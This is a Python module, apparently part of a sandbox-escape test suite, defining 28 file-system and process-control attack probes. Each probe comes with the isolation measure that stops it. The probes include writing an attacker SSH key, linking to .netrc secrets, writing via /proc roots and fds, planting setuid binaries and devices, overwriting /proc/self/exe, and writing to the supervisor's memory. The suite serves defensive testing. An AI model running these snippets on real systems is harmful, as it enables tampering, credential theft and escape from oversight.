"""F: files of the host, what comes back from a run, and the control of runs."""

from __future__ import annotations

from ..attack import Attack, Evidence

_CHANGED, _COLLECTED, _CLAIM = Evidence.CHANGED, Evidence.COLLECTED, Evidence.CLAIM
_READ_ONLY = "a view of files without it stops it."


def _change(
    number: str, name: str, catalogue: tuple[int, ...], code: str, *requires: str
) -> Attack:
    wants = f"Wants to change a file of the host; {_READ_ONLY}"
    return Attack(number, name, catalogue, wants, _CHANGED, code, requires=requires)


def _collect(number: str, name: str, code: str) -> Attack:
    wants = (
        "Wants the caller to read a secret for it while it collects files; opening beneath the "
        "folder, without links, stops it."
    )
    return Attack(number, name, (112,), wants, _COLLECTED, code)


ATTACKS = (
    _change("F01", "writes to the keys that may log in", (49,), """
def write():
    with open(BAIT["target"], "a") as file: file.write("ssh-ed25519 attacker")
attempt(write)
"""),
    _change("F02", "removes a file", (112,), 'attempt(os.unlink, BAIT["target"])\n'),
    _change("F03", "exchanges a file", (112,), """
def exchange():
    with open(BAIT["token"], "w") as file: file.write("mine")
    os.rename(BAIT["token"], BAIT["target"])
attempt(exchange)
"""),
    _change("F04", "opens a file to all", (112,), 'attempt(os.chmod, BAIT["target"], 0o777)\n'),
    _change("F05", "empties a file", (88,), 'attempt(os.truncate, BAIT["target"], 0)\n'),
    _change("F06", "changes its time", (112,), 'attempt(os.utime, BAIT["target"], (1, 1))\n'),
    _change("F07", "gives a file a second name", (33, 112), """
folder = os.path.dirname(BAIT["target"])
attempt(os.link, BAIT["target"], os.path.join(folder, BAIT["token"]))
"""),
    _change("F08", "writes through a link", (112,), """
def write():
    os.symlink(BAIT["target"], BAIT["token"])
    with open(BAIT["token"], "w") as file: file.write("mine")
attempt(write)
"""),
    _change("F09", "writes through /proc/self/root", (61,), """
def write():
    with open("/proc/self/root" + BAIT["target"], "w") as file: file.write("mine")
attempt(write)
"""),
    _change("F10", "writes through the root of another", (46, 61), """
def write(pid):
    with open(f"/proc/{pid}/root" + BAIT["target"], "w") as file: file.write("mine")
for pid in (1, os.getppid(), BAIT["owner"]): attempt(write, pid)
"""),
    _change("F11", "writes from an inherited folder", (61,), """
def write(fd):
    path = f"/proc/self/fd/{fd}/../../../../.." + BAIT["target"]
    with open(path, "w") as file: file.write("mine")
for fd in range(3, 64): attempt(write, fd)
"""),
    _change("F12", "adds a file to /etc", (83,), """
attempt(os.close, attempt(os.open, "/etc/" + BAIT["token"], os.O_CREAT | os.O_WRONLY) or -1)
""", "root"),
    _change("F13", "adds a file to the system", (112,), """
attempt(os.close, attempt(os.open, "/usr/lib/" + BAIT["token"], os.O_CREAT | os.O_WRONLY) or -1)
""", "root"),
    Attack(
        "F14", "changes the interpreter", (62,),
        "Wants its code in every later run by the standard library (opened, not written); a "
        "read-only interpreter stops it.",
        _CLAIM, """
if attempt(os.open, os.path.realpath(os.__file__), os.O_WRONLY): reached(os.__file__)
""",
        requires=("root",),
    ),
    Attack(
        "F15", "changes the program that runs it", (62,),
        "Wants to overwrite /proc/self/exe or its folder (runc, 2019); a read-only view stops it.",
        _CLAIM, """
folder = os.path.dirname(os.path.realpath("/proc/self/exe"))
path = os.path.join(folder, BAIT["token"])
fd = attempt(os.open, path, os.O_CREAT | os.O_WRONLY)
if fd: os.unlink(path); reached(folder)
""",
        requires=("root",),
    ),
    _collect("F16", "a link to a secret", 'os.symlink(BAIT["home"] + "/.netrc", "report.txt")\n'),
    _collect("F17", "a link that climbs",
             'os.symlink("../" * 20 + BAIT["home"].lstrip("/") + "/.netrc", "report.txt")\n'),
    _collect("F18", "a link to a folder of secrets",
             'os.symlink(BAIT["home"], "results")\nos.symlink("results/.netrc", "report.txt")\n'),
    _collect("F19", "a link by way of /proc",
             'os.symlink(f"/proc/{BAIT[\'owner\']}/root{BAIT[\'home\']}/.netrc", "report.txt")\n'),
    _collect("F20", "a link to an open file", """
os.symlink(f"/proc/{BAIT['owner']}/fd/{BAIT['held_fd']}", "report.txt")
"""),
    _collect("F21", "a hard link to a secret", """
import glob
for folder in (".", os.path.dirname(BAIT["sibling"]) + "/../work"):
    attempt(os.link, BAIT["sibling"], folder + "/report.txt")
"""),
    Attack(
        "F22", "a pipe for the collector", (112,),
        "Wants the caller to wait for ever for a file that is a pipe; opening regular files only "
        "stops it.",
        Evidence.TIME, """
os.mkfifo("report.txt")
import time
if os.fork() == 0:
    os.setsid()
    open("report.txt", "w")
""",
        seconds=3,
    ),
    Attack(
        "F23", "a set-uid program in a shared folder", (64, 112),
        "Wants to leave a program that runs as the caller; a filter or a mapped uid stops it.",
        Evidence.PLANTED, """
import shutil
def plant():
    shutil.copyfile("/bin/true", "tool")
    os.chmod("tool", 0o6755)
attempt(plant)
""",
        requires=("folder",),
    ),
    Attack(
        "F24", "a set-uid program, made so", (64, 112),
        "Wants the same by the mode that a file is made with.",
        Evidence.PLANTED, """
os.umask(0)
attempt(os.open, "tool", os.O_CREAT | os.O_WRONLY, 0o6755)
attempt(os.mknod, "tool2", 0o106755)
""",
        requires=("folder",),
    ),
    Attack(
        "F25", "a device in a shared folder", (85, 112),
        "Wants to leave a disk device; no right to mknod(2) stops it.",
        Evidence.PLANTED, """
import stat
attempt(os.mknod, "disk", stat.S_IFBLK | 0o666, os.makedev(254, 0))
attempt(os.mknod, "null", stat.S_IFCHR | 0o666, os.makedev(1, 3))
""",
        requires=("folder", "root"),
    ),
    Attack(
        "F26", "forges its result", (110,),
        "Wants to write into the pipes of the process that watches it; a pid namespace and no "
        "ptrace rights over its parent stop it.",
        _CLAIM, """
parent = os.getppid()
for name in attempt(os.listdir, f"/proc/{parent}/fd") or ():
    if int(name) > 0 and attempt(os.open, f"/proc/{parent}/fd/{name}", os.O_WRONLY | os.O_NONBLOCK):
        reached(parent, name); break
""",
    ),
    Attack(
        "F27", "changes its supervisor", (65, 111),
        "Wants to write to the memory of the process that watches it; a pid namespace or a filter "
        "stops it.",
        _CLAIM, """
parent = os.getppid()
if parent and attempt(os.open, f"/proc/{parent}/mem", os.O_RDWR): reached(parent)
""",
    ),
    Attack(
        "F28", "stays for the next run", (16, 111),
        "Wants a process of one run to see the next; ending each run whole stops it.",
        _CLAIM, """
import time
if os.fork() == 0:
    os.setsid()
    os.closerange(0, 100)
    time.sleep(10)
""",
        then="""
mine = str(os.getpid())
for pid in filter(str.isdigit, os.listdir("/proc")):
    if pid != mine and BAIT["token"].encode() in read(f"/proc/{pid}/comm"): reached(pid)
""",
    ),
)  # fmt: skip
